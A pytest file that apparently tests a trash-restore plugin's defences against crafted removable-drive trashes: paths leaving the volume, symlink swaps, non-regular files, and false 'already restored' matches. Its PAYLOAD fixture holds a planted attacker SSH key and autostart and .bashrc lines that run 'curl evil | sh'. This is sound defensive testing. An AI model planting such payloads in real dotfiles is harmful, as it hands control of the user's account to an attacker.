"""Crafted trashes: a removable drive's trash is written by whoever prepared the drive.

Every test snapshots the whole temporary tree (the user's $HOME, the volume, the trash) before the
restore and asserts that exactly the allowed changes happened, nothing else.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from trashscan.models import Account, IndexedItem, Kind, RestoreOutcome, TrashItem
from trashscan_local_trash.plugin import LocalTrashProvider

from .conftest import Trash, Volume, account, changes, indexed, scan_pages, snapshot

LAYOUTS = ["private", "shared"]  # $topdir/.Trash-$uid, $topdir/.Trash/$uid
DISCOVERY = ["named", "mounted"]  # in trash_dirs, or found among the mounted volumes

PAYLOAD = {
    "holiday.jpg": b"\xff\xd8\xff a holiday photo",
    "authorized_keys": b"ssh-ed25519 AAAA attacker\n",
    "evil.desktop": b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n",
    ".bashrc": b"curl evil | sh\n",
    ".config/autostart/evil.desktop": b"[Desktop Entry]\nExec=evil\n",
    "sub/beach.png": b"\x89PNG a beach",
}


@pytest.fixture(params=LAYOUTS)
def volume(request: pytest.FixtureRequest, tmp_path: Path) -> Volume:
    return Volume(tmp_path / "stick", request.param)


@pytest.fixture(params=DISCOVERY)
def vol_account(
    request: pytest.FixtureRequest, volume: Volume, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Account:
    if request.param == "named":
        return volume.named()
    return volume.mount(tmp_path, monkeypatch)


def listed(provider: LocalTrashProvider, acct: Account) -> dict[str, TrashItem]:
    pages, _ = scan_pages(provider, acct)
    items = [i for p in pages for i in p.items]
    by_name = {i.name: i for i in items}
    assert len(by_name) == len(items), "test trashes use distinct names"
    return by_name


def restore_one(provider: LocalTrashProvider, acct: Account, item: IndexedItem | TrashItem):
    """Call the plugin directly (as if the index still said restorable), return the result."""
    chosen = item if isinstance(item, IndexedItem) else indexed(item)
    [result] = provider.restore(acct, [chosen])
    return result


def rel(path: Path, tmp_path: Path) -> str:
    return str(path.relative_to(tmp_path))


# --------------------------------------------------------------------------- trashed folders


@pytest.mark.parametrize("form", ["relative", "absolute"])
def test_a_photo_in_a_trashed_folder_comes_back_alone(
    provider: LocalTrashProvider,
    volume: Volume,
    vol_account: Account,
    user_home: Path,
    tmp_path: Path,
    form: str,
) -> None:
    path_value = "Photos/Trip" if form == "relative" else f"{volume.top}/Photos/Trip"
    folder = volume.trash.folder(path_value, "Trip", PAYLOAD)
    items = listed(provider, vol_account)
    assert set(items) == {"holiday.jpg", "beach.png"}
    assert items["holiday.jpg"].restorable, items["holiday.jpg"].not_restorable_reason
    before = snapshot(tmp_path)

    result = restore_one(provider, vol_account, items["holiday.jpg"])

    restored = volume.top / "Photos" / "Trip" / "holiday.jpg"
    assert result.outcome is RestoreOutcome.RESTORED, result.detail
    assert result.restored_path == str(restored)
    assert restored.read_bytes() == PAYLOAD["holiday.jpg"]
    assert changes(before, snapshot(tmp_path)) == {
        rel(volume.top / "Photos", tmp_path): "added",
        rel(volume.top / "Photos" / "Trip", tmp_path): "added",
        rel(restored, tmp_path): "added",
        rel(folder / "holiday.jpg", tmp_path): "removed",
    }
    # The folder stays in the trash, minus that file, and still lists its other photo.
    assert (volume.trash.path / "info" / "Trip.trashinfo").exists()
    assert set(listed(provider, vol_account)) == {"beach.png"}


@pytest.mark.parametrize(
    "target", ["Pictures/Trip", ".config/autostart", ".ssh"], ids=["pictures", "autostart", "ssh"]
)
def test_home_trash_restores_only_the_photo_of_a_folder_full_of_dotfiles(
    provider: LocalTrashProvider, user_home: Path, tmp_path: Path, target: str
) -> None:
    trash = Trash(user_home / ".local" / "share" / "Trash")  # $XDG_DATA_HOME/Trash
    folder = trash.folder(str(user_home / target), "folder", PAYLOAD)
    acct = account(include_volumes=False)
    items = listed(provider, acct)
    assert items["holiday.jpg"].restorable
    before = snapshot(tmp_path)

    result = restore_one(provider, acct, items["holiday.jpg"])

    restored = user_home / target / "holiday.jpg"
    assert result.outcome is RestoreOutcome.RESTORED, result.detail
    assert restored.read_bytes() == PAYLOAD["holiday.jpg"]
    expected = {rel(restored, tmp_path): "added", rel(folder / "holiday.jpg", tmp_path): "removed"}
    if target == "Pictures/Trip":
        expected[rel(user_home / target, tmp_path)] = "added"
    assert changes(before, snapshot(tmp_path)) == expected
    assert (user_home / ".ssh" / "authorized_keys").read_bytes() == b"ssh-ed25519 AAAA mine\n"


def test_two_photos_of_one_folder_are_two_separate_restores(
    provider: LocalTrashProvider, volume: Volume, user_home: Path
) -> None:
    acct = volume.named()
    volume.trash.folder("Album", "Album", {"a.jpg": b"a", "b.jpg": b"b", "notes.txt": b"n"})
    items = listed(provider, acct)

    first = restore_one(provider, acct, items["a.jpg"])
    second = restore_one(provider, acct, items["b.jpg"])

    assert (first.outcome, second.outcome) == (RestoreOutcome.RESTORED, RestoreOutcome.RESTORED)
    assert sorted(p.name for p in (volume.top / "Album").iterdir()) == ["a.jpg", "b.jpg"]
    assert [p.name for p in (volume.trash.path / "files" / "Album").iterdir()] == ["notes.txt"]


# --------------------------------------------------------------------------- leaving the volume


def _into_home(volume: Volume, user_home: Path, form: str, where: str) -> str:
    if form == "absolute":
        return str(user_home / where)
    return os.path.relpath(user_home / where, volume.top)  # ../user-home/.ssh


@pytest.mark.parametrize("form", ["absolute", "relative"])
@pytest.mark.parametrize("where", [".ssh", ".config/autostart"])
@pytest.mark.parametrize("entry", ["folder", "file"])
def test_an_entry_pointing_outside_the_volume_is_listed_as_not_restorable(
    provider: LocalTrashProvider,
    volume: Volume,
    vol_account: Account,
    user_home: Path,
    tmp_path: Path,
    form: str,
    where: str,
    entry: str,
) -> None:
    target = _into_home(volume, user_home, form, where)
    if entry == "folder":
        volume.trash.folder(target, "payload", PAYLOAD)
        expected_path = user_home / where / "holiday.jpg"
    else:
        volume.trash.add(f"{target}/holiday.jpg", content=PAYLOAD["holiday.jpg"])
        expected_path = user_home / where / "holiday.jpg"
    items = listed(provider, vol_account)
    photo = items["holiday.jpg"]

    assert photo.path == str(expected_path)  # shown where it claims to belong
    assert photo.kind is Kind.PHOTO
    assert photo.restorable is False
    assert "outside" in (photo.not_restorable_reason or "")
    assert str(volume.top) in (photo.not_restorable_reason or "")

    before = snapshot(tmp_path)
    result = restore_one(provider, vol_account, photo)

    assert result.outcome is RestoreOutcome.FAILED
    assert "outside" in (result.detail or "")
    assert changes(before, snapshot(tmp_path)) == {}


@pytest.mark.parametrize("leads", ["home", "volume"])
def test_a_symlinked_folder_on_the_way_is_never_followed(
    provider: LocalTrashProvider,
    volume: Volume,
    vol_account: Account,
    user_home: Path,
    tmp_path: Path,
    leads: str,
) -> None:
    other = user_home / ".ssh" if leads == "home" else volume.top / "Elsewhere"
    other.mkdir(exist_ok=True)
    (volume.top / "DCIM").symlink_to(other)
    volume.trash.add("DCIM/holiday.jpg", content=PAYLOAD["holiday.jpg"])
    volume.trash.add("DCIM/authorized_keys", content=PAYLOAD["authorized_keys"])
    photo = listed(provider, vol_account)["holiday.jpg"]

    assert photo.restorable is False
    reason = photo.not_restorable_reason or ""
    assert "symbolic link" in reason and str(volume.top / "DCIM") in reason
    if leads == "home":
        assert "out of the volume" in reason

    before = snapshot(tmp_path)
    result = restore_one(provider, vol_account, photo)

    assert result.outcome is RestoreOutcome.FAILED
    assert "symbolic link" in (result.detail or "")
    assert changes(before, snapshot(tmp_path)) == {}


def test_a_folder_swapped_for_a_symlink_after_the_scan_is_not_followed(
    provider: LocalTrashProvider, volume: Volume, user_home: Path, tmp_path: Path
) -> None:
    acct = volume.named()
    (volume.top / "DCIM").mkdir()
    volume.trash.add("DCIM/holiday.jpg", content=PAYLOAD["holiday.jpg"])
    photo = listed(provider, acct)["holiday.jpg"]
    assert photo.restorable
    (volume.top / "DCIM").rmdir()
    (volume.top / "DCIM").symlink_to(user_home / ".ssh")  # swapped between check and write
    before = snapshot(tmp_path)

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.FAILED
    assert "symbolic link" in (result.detail or "")
    assert changes(before, snapshot(tmp_path)) == {}


def test_home_trash_never_restores_through_a_symlinked_folder(
    provider: LocalTrashProvider, user_home: Path, tmp_path: Path
) -> None:
    (user_home / "Pictures" / "Shots").symlink_to(user_home / ".config" / "autostart")
    trash = Trash(user_home / ".local" / "share" / "Trash")
    trash.add(str(user_home / "Pictures" / "Shots" / "x.jpg"), content=b"photo")
    acct = account(include_volumes=False)
    photo = listed(provider, acct)["x.jpg"]
    assert photo.restorable is False
    assert "symbolic link" in (photo.not_restorable_reason or "")
    before = snapshot(tmp_path)

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.FAILED
    assert changes(before, snapshot(tmp_path)) == {}


def test_a_taken_name_that_is_a_symlink_is_never_written_through(
    provider: LocalTrashProvider, user_home: Path, tmp_path: Path
) -> None:
    keys = user_home / ".ssh" / "authorized_keys"
    (user_home / "Pictures" / "x.jpg").symlink_to(keys)
    trash = Trash(user_home / ".local" / "share" / "Trash")
    stored = trash.add(str(user_home / "Pictures" / "x.jpg"), content=b"photo")
    acct = account(include_volumes=False)
    photo = listed(provider, acct)["x.jpg"]
    before = snapshot(tmp_path)

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.CONFLICT_RESOLVED
    restored = user_home / "Pictures" / "x (restored).jpg"
    assert result.restored_path == str(restored)
    assert changes(before, snapshot(tmp_path)) == {
        rel(restored, tmp_path): "added",
        rel(stored, tmp_path): "removed",
        rel(trash.path / "info" / "x.jpg.trashinfo", tmp_path): "removed",
    }


# --------------------------------------------------------------------------- not regular files


def _crafted(trash: Trash, info: str, original: str, inner: str | None = None) -> IndexedItem:
    """An index row as an older trashscan (or a crafted index) could hold it."""
    handle = {"trash_dir": str(trash.path), "info": info, "original_path": original}
    name = Path(inner or original).name
    if inner:
        handle["inner"] = inner
    item_id = f"{trash.path}::{info}" + (f"::{inner}" if inner else "")
    return indexed(TrashItem(item_id=item_id, name=name, restore_handle=handle, kind=Kind.PHOTO))


def test_entries_that_are_not_regular_files_are_never_photos(
    provider: LocalTrashProvider, volume: Volume, user_home: Path, tmp_path: Path
) -> None:
    acct = volume.named()
    trash = volume.trash
    files = trash.path / "files"
    (user_home / ".ssh" / "ssh-photo.jpg").write_bytes(b"the user's own photo")
    trash.add("DCIM/ok.jpg", content=b"ok")
    for name, make in {
        "passwd.jpg": lambda p: p.symlink_to("/etc/passwd"),
        "dir.jpg": lambda p: p.symlink_to(user_home / ".ssh"),
        "pipe.jpg": os.mkfifo,
    }.items():
        trash.info(name, f"[Trash Info]\nPath=DCIM/{name}\n")
        make(files / name)
    trash.folder("DCIM/Album", "Album", {"real.jpg": b"real"})
    (files / "Album" / "link.jpg").symlink_to("/etc/passwd")
    (files / "Album" / "sub").symlink_to(user_home / ".ssh")  # walking it would find ssh-photo

    assert set(listed(provider, acct)) == {"ok.jpg", "real.jpg"}

    crafted = [
        _crafted(trash, "passwd.jpg.trashinfo", f"{volume.top}/DCIM/passwd.jpg"),
        _crafted(trash, "dir.jpg.trashinfo", f"{volume.top}/DCIM/dir.jpg"),
        _crafted(trash, "pipe.jpg.trashinfo", f"{volume.top}/DCIM/pipe.jpg"),
        _crafted(trash, "Album.trashinfo", f"{volume.top}/DCIM/Album", "link.jpg"),
        _crafted(trash, "Album.trashinfo", f"{volume.top}/DCIM/Album", "sub/ssh-photo.jpg"),
    ]
    before = snapshot(tmp_path)

    results = list(provider.restore(acct, crafted))

    assert [r.outcome for r in results] == [RestoreOutcome.FAILED] * len(crafted)
    assert all(r.detail for r in results)
    assert changes(before, snapshot(tmp_path)) == {}


@pytest.mark.parametrize("which", ["files", "info"])
def test_a_symlinked_files_or_info_folder_is_not_a_trash(
    provider: LocalTrashProvider, volume: Volume, user_home: Path, tmp_path: Path, which: str
) -> None:
    """files/ -> ~/Pictures would make a restore move the user's own photo onto the drive."""
    acct = volume.named()
    (user_home / "Pictures" / "holiday.jpg").write_bytes(b"the user's own photo")
    volume.trash.add("holiday.jpg", content=b"x")
    moved = volume.trash.path / f"{which}.real"
    (volume.trash.path / which).rename(moved)
    if which == "files":
        (volume.trash.path / "files").symlink_to(user_home / "Pictures")
    else:
        (volume.trash.path / "info").symlink_to(moved)

    pages, outcome = scan_pages(provider, acct)

    assert [i for p in pages for i in p.items] == []
    assert outcome.complete_listing is False
    item = _crafted(volume.trash, "holiday.jpg.trashinfo", f"{volume.top}/holiday.jpg")
    before = snapshot(tmp_path)
    result = restore_one(provider, acct, item)
    assert result.outcome is RestoreOutcome.FAILED
    assert "symbolic link" in (result.detail or "")
    assert changes(before, snapshot(tmp_path)) == {}


# --------------------------------------------------------------------------- already restored?


@pytest.mark.parametrize("size", ["same size", "other size"])
def test_an_unrelated_file_at_the_original_path_is_not_already_restored(
    provider: LocalTrashProvider, volume: Volume, tmp_path: Path, size: str
) -> None:
    acct = volume.named()
    stored = volume.trash.add("DCIM/holiday.jpg", content=b"trashed photo")
    os.utime(stored, (1_717_000_000, 1_717_000_000))  # taken days before it was trashed
    photo = listed(provider, acct)["holiday.jpg"]
    stored.unlink()  # the trash was emptied ...
    (volume.trash.path / "info" / "holiday.jpg.trashinfo").unlink()
    original = volume.top / "DCIM" / "holiday.jpg"
    original.parent.mkdir()
    original.write_bytes(b"a new photo!!" if size == "same size" else b"a newer, larger photo")
    before = snapshot(tmp_path)  # ... and a new photo took the name

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.FAILED
    assert result.detail == (
        f"no longer in the trash; the file now at {original} is a different file"
    )
    assert changes(before, snapshot(tmp_path)) == {}


def test_the_same_file_put_back_by_a_file_manager_is_already_restored(
    provider: LocalTrashProvider, volume: Volume
) -> None:
    acct = volume.named()
    volume.trash.folder("DCIM", "DCIM", {"a.jpg": b"a"})
    photo = listed(provider, acct)["a.jpg"]
    (volume.trash.path / "files" / "DCIM").rename(volume.top / "DCIM")  # same inodes
    (volume.trash.path / "info" / "DCIM.trashinfo").unlink()

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.ALREADY_RESTORED
    assert result.restored_path == str(volume.top / "DCIM" / "a.jpg")


@pytest.mark.parametrize("copy", [shutil.copy, shutil.copy2], ids=["new-mtime", "same-mtime"])
def test_a_copy_in_a_new_file_is_not_taken_for_the_trashed_file(
    provider: LocalTrashProvider, volume: Volume, copy
) -> None:
    acct = volume.named()
    stored = volume.trash.add("b.jpg", content=b"b")
    os.utime(stored, (1_717_000_000, 1_717_000_000))
    photo = listed(provider, acct)["b.jpg"]
    copy(stored, volume.top / "b.jpg")  # same content, but another file
    stored.unlink()
    (volume.trash.path / "info" / "b.jpg.trashinfo").unlink()

    result = restore_one(provider, acct, photo)

    assert result.outcome is RestoreOutcome.FAILED
    where = volume.top / "b.jpg"
    if copy is shutil.copy:  # another modification time: certainly not the trashed file
        assert (
            result.detail == f"no longer in the trash; the file now at {where} is a different file"
        )
    else:  # same size and time, another inode: a copy, or not; trashscan cannot know
        assert result.detail == (
            "no longer in the trash; cannot tell whether the file now at "
            f"{where} is the trashed one"
        )
